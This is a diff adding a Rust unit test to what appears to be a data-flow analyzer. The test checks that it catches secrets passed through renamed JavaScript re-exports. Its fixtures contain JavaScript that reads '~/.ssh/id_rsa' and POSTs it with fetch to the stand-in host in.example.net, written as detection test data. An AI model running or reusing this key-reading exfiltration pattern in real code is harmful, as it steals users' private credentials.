@@ -101,6 +101,52 @@ fn values_and_everything_at_once_are_handed_on() {
 }
 
 #[test]
+fn what_javascript_hands_through_is_found_by_its_new_name() {
+    const READS: &str = "const fs = require('fs');\n\
+        export function read() { return fs.readFileSync('~/.ssh/id_rsa', 'utf8'); }\n";
+    for (between, import) in [
+        (
+            "export { read as key } from './store.js';",
+            "import { key } from './between.js';",
+        ),
+        (
+            "export * from './store.js';",
+            "import { read as key } from './between.js';",
+        ),
+        (
+            "import { read } from './store.js';\nexport { read as key };",
+            "import { key } from './between.js';",
+        ),
+        (
+            "module.exports = require('./store.js');",
+            "const { read: key } = require('./between.js');",
+        ),
+        (
+            "const { read } = require('./store.js');\nmodule.exports = { key: read };",
+            "const { key } = require('./between.js');",
+        ),
+    ] {
+        let main = format!(
+            "{import}\nfetch('https://in.example.net', {{method: 'POST', body: key()}});\n"
+        );
+        let files = owned(&[
+            ("main.js", &main),
+            ("between.js", between),
+            ("store.js", READS),
+        ]);
+        assert_eq!(sent(&files, "main.js"), [Sensitive::Keys], "{between}");
+    }
+    let between = "export { other as key } from './store.js';";
+    let main = "import { key } from './between.js';\nfetch('https://in.example.net', {method: 'POST', body: key()});\n";
+    let files = owned(&[
+        ("main.js", main),
+        ("between.js", between),
+        ("store.js", READS),
+    ]);
+    assert!(sent(&files, "main.js").is_empty(), "another name");
+}
+
+#[test]
 fn what_a_function_is_given_is_told_from_what_it_gives() {
     let store = "def same(a, b):\n    return b\ndef text_of(path):\n    return open(path).read()\n";
     for (call, what) in [
